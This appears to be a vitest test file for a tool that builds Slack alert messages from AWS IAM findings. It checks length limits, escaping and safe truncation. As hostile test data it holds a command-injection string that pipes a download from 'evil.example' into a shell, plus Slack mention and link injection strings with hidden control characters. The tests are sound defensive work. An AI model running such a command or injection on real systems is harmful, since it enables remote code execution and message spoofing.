import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type SlackMessage, slackMessage } from '../../src/alerts/slack-message.js';
import { plainText, previewText } from '../../src/alerts/slack-text.js';
import { channel, finding } from './made.js';
import { type Received, startReceiver } from './receiver.js';

const ctx = {
  account: (id: string | null) => (id === '222222222222' ? 'prod' : id),
  tz: 'Africa/Johannesburg',
};

/** Every text object of a message, at any depth. */
function textsOf(value: unknown): { type: string; text: string }[] {
  if (typeof value !== 'object' || value === null) return [];
  const own = 'text' in value && typeof value.text === 'string' && 'type' in value ? [value as never] : [];
  return [...own, ...Object.values(value).flatMap(textsOf)];
}

/** Everything that Slack refuses a message for. https://docs.slack.dev/reference/block-kit/blocks */
function offences({ text, blocks }: SlackMessage): string[] {
  const limits = blocks.flatMap((block): [text: string, most: number][] => {
    if (block.type === 'header') return [[block.text.text, 150]];
    if (block.type === 'context') return block.elements.map((each) => [each.text, 2000]);
    return 'fields' in block ? block.fields.map((each) => [each.text, 2000]) : [[block.text.text, 3000]];
  });
  return [
    ...limits
      .filter(([each, most]) => each.length === 0 || each.length > most)
      .map(([each]) => `length ${each.length}`),
    ...(text.length === 0 || text.length > 4000 ? ['preview'] : []),
    ...(blocks.length > 50 ? ['blocks'] : []),
    ...blocks.flatMap((block) =>
      'fields' in block && (block.fields.length > 10 || !block.fields.length) ? ['fields'] : [],
    ),
    ...textsOf(blocks)
      .filter(({ type }) => type !== 'plain_text')
      .map(({ type }) => type),
    // What is left of the three characters is an entity, whole.
    ...[text, ...textsOf(blocks).map((each) => each.text)].filter((each) =>
      /[<>]|&(?!(?:amp|lt|gt);)/.test(each),
    ),
  ];
}

describe('a message for Slack', () => {
  it('tells what happened, who was behind it, where, when, and how to go on', async () => {
    const { at, received } = await startReceiver();
    const { payload, send } = channel(`slack:${at('/services/T0/B0/x')}`);
    await send(payload(finding(1)), { id: 'd1', number: 1 });
    const [{ headers, body }] = received as [Received];
    expect(headers).toMatchObject({
      'content-type': 'application/json; charset=utf-8',
      'user-agent': 'rolecall/1.2.3',
    });
    const message = JSON.parse(body) as SlackMessage;
    expect(message.text).toBe('HIGH sensitive-call: gh-1 called iam:CreateUser');
    expect(textsOf(message.blocks).map(({ text }) => text)).toEqual([
      'HIGH sensitive-call',
      'gh-1 called iam:CreateUser',
      'Who\nweb identity repo:acme/shop:ref:refs/heads/main',
      'Account\nprod (222222222222)',
      'Role\narn:aws:iam::222222222222:role/deployment-role-prod',
      'When\n2026-11-17 09:00:01 UTC',
      '3 minutes after the role was assumed',
      'finding finding1 · rolecall chain k7m2qpk7m2qpk7m2 · rolecall show 6f1d2c0e-6a53-4c0e-9a57-0d6e35a1b2c3',
    ]);
  });

  it('shows times in the zone asked for, and leaves out what is not known', () => {
    const bare = { origin: null, accountId: null, roleArn: null, session: null, evidence: [], detail: [] };
    const message = slackMessage(finding(1, { ...bare, sessions: 3, last: finding(61).time }), ctx);
    expect(textsOf(message.blocks).map(({ text }) => text)).toEqual([
      'HIGH sensitive-call',
      'gh-1 called iam:CreateUser',
      'Who\norigin not observed',
      'When\n2026-11-17 11:00:01 – 11:01:01 +02:00',
      'Sessions\n3',
      'finding finding1',
    ]);
    expect(offences(message)).toEqual([]);
  });

  it('shows hostile text as text: no mention, link, markup or hidden character', () => {
    const hostile =
      '<!channel> <@U123> <https://evil.example|click> @channel @here @bob *bold* _it_ `code` ~x~ &amp; ![i](http://evil.example/x) \u202e\u200b\u001b[31m';
    const message = slackMessage(
      finding(1, {
        title: hostile,
        detail: [hostile, ' ', ''],
        roleArn: `arn:aws:iam::222222222222:role/${hostile}`,
        origin: { kind: 'saml-user', id: hostile, accountId: null, detail: null },
        detector: hostile,
      }),
      ctx,
    );
    expect(offences(message)).toEqual([]);
    expect(message).toMatchObject({ mrkdwn: false, parse: 'none', link_names: false, unfurl_links: false });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the purpose.
    expect(message.text).not.toMatch(/[*_~`@[\]!|\\]|\/\/|[\u200b\u202e\u001b]/);
    const shown = textsOf(message.blocks)[1]!.text;
    expect(shown).toContain('&lt;!channel&gt; &lt;@\u2060U123&gt; &lt;https://evil.example|click&gt;');
    expect(shown).toContain('@\u2060channel @\u2060here @\u2060bob *bold*');
    expect(shown).toContain('&amp;amp;');
    expect(shown).toContain(String.raw`\u202e\u200b\x1b[31m`);
  });

  it('offers no command for copying that a shell would take for another', () => {
    const evidence = ['x; curl http://evil.example | sh'];
    expect(JSON.stringify(slackMessage(finding(1, { evidence }), ctx))).not.toMatch(/rolecall show|curl/);
  });

  it('leaves addresses of people as they are', () => {
    expect(plainText('anna@acme.example', 100).text).toBe('anna@acme.example');
    expect(plainText('x@channel x@here.example', 100).text).toBe('x@\u2060channel x@\u2060here.example');
  });

  it('is cut between two characters, never inside an entity or a pair', () => {
    expect(plainText('<<<<', 16).text).toBe('&lt;&lt;&lt;&lt;');
    expect(plainText('<<<<<', 16).text).toBe('&lt;&lt;&lt;…');
    expect(plainText('😀😀😀', 5).text).toBe('😀😀…');
    expect(previewText('<b>//x', 100)).toBe('·b··x');
  });

  it('is within the limits whatever the records hold', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.stringMatching(/^[<>&@*_]{0,40}$/),
      fc.constantFrom(
        '&'.repeat(5000),
        '<'.repeat(749),
        '😀'.repeat(1500),
        '\u202e'.repeat(3000),
        '\n'.repeat(3001),
      ),
    );
    fc.assert(
      fc.property(text, fc.array(text, { maxLength: 40 }), (title, detail) => {
        const role = `arn:aws:iam::222222222222:role/${title}`;
        const origin = { kind: 'web-identity' as const, id: title, accountId: title, detail: title };
        const made = {
          title,
          detail,
          detector: title,
          roleArn: role,
          origin,
          accountId: title,
          session: title,
        };
        expect(offences(slackMessage(finding(1, { ...made, evidence: [title], id: title }), ctx))).toEqual(
          [],
        );
      }),
      { numRuns: 300 },
    );
  });
});
